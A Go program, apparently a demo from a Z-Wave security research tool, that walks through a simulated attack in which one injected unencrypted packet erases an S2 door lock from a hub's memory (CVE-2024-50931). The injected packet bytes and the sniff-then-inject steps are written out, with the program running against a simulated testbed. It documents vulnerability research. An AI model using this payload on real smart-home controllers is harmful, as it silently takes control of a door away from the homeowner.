@@ -1,0 +1,100 @@
+// Smart-home attack walkthrough: the end-to-end scenario of the paper's
+// Figure 2. A homeowner controls an S2-encrypted door lock through their
+// hub; an attacker 10–70 m away sniffs the network, crafts one unencrypted
+// packet for the hidden network-management class, and erases the lock from
+// the controller's memory — after which the homeowner can no longer
+// control the door, without any alarm being raised.
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"zcover"
+	"zcover/internal/protocol"
+	"zcover/internal/security"
+	"zcover/internal/testbed"
+	"zcover/internal/zcover/dongle"
+	"zcover/internal/zcover/scan"
+)
+
+func main() {
+	tb, err := zcover.NewTestbed("D6", 99)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// ---- The happy smart home -------------------------------------------
+	fmt.Println("1. Homeowner locks the door through the hub (S2 encrypted).")
+	if err := operateLock(tb, 0xFF); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("   lock state: %s\n\n", lockState(tb))
+
+	// ---- (1)-(3): the attacker scans the network ------------------------
+	fmt.Println("2. Attacker sniffs all Z-Wave traffic from outside the house.")
+	d := dongle.New(tb.Medium, tb.Region)
+	tb.ScheduleTraffic(6, 10*time.Second)
+	nets := scan.Passive(d, time.Minute+10*time.Second)
+	net := nets[0]
+	fmt.Printf("   found network %s, nodes %v, controller node %s\n",
+		net.Home, net.Nodes, net.Controller)
+	fmt.Println("   (S2 hides payloads, but home and node IDs are clear text)")
+	fmt.Println()
+
+	// ---- (4): one unencrypted packet deletes the lock -------------------
+	fmt.Println("3. Attacker injects ONE unencrypted packet: hidden CMDCL 0x01,")
+	fmt.Println("   CMD 0x0D (NEW_NODE_REGISTERED) naming the lock with no node info.")
+	attack := []byte{0x01, 0x0D, byte(testbed.LockID)}
+	if _, err := d.SendAndObserve(net.Home, scan.AttackerNodeID, net.Controller,
+		attack, dongle.DefaultResponseWindow); err != nil {
+		log.Fatal(err)
+	}
+	if _, stillThere := tb.Controller.Table().Get(testbed.LockID); stillThere {
+		log.Fatal("attack failed: lock still registered")
+	}
+	fmt.Printf("   controller memory now: %v — the lock (node %d) is GONE\n\n",
+		tb.Controller.Table().IDs(), testbed.LockID)
+	for _, e := range tb.Bus.Events() {
+		fmt.Printf("   oracle: %s\n", e)
+	}
+	fmt.Println()
+
+	// ---- (5)-(6): the homeowner cannot lock the door anymore ------------
+	fmt.Println("4. Homeowner tries to lock the door again...")
+	if err := operateLock(tb, 0xFF); err != nil {
+		fmt.Printf("   command fails: %v\n", err)
+	}
+	fmt.Println("   The hub no longer recognises the lock (CVE-2024-50931).")
+	fmt.Println("   The physical lock still works locally, but the smart home")
+	fmt.Println("   has silently lost control of the front door.")
+}
+
+// operateLock models the hub acting on a homeowner command: it looks the
+// lock up in its own memory, then sends an S2-encapsulated operation.
+func operateLock(tb *zcover.Testbed, mode byte) error {
+	if _, known := tb.Controller.Table().Get(testbed.LockID); !known {
+		return fmt.Errorf("device %d not found in controller memory", testbed.LockID)
+	}
+	sess, ok := tb.Controller.Session(testbed.LockID)
+	if !ok {
+		return fmt.Errorf("no security session for device %d", testbed.LockID)
+	}
+	h := tb.Home()
+	aad := []byte{byte(h >> 24), byte(h >> 16), byte(h >> 8), byte(h),
+		testbed.ControllerID, testbed.LockID}
+	encap, err := sess.Encapsulate(security.FlowAtoB, aad, []byte{0x62, 0x01, mode})
+	if err != nil {
+		return err
+	}
+	return tb.Controller.Node().Send(protocol.NodeID(testbed.LockID), encap)
+}
+
+// lockState renders the lock's current mode.
+func lockState(tb *zcover.Testbed) string {
+	if tb.Lock.Mode() == 0xFF {
+		return "SECURED (locked)"
+	}
+	return "UNSECURED (unlocked)"
+}
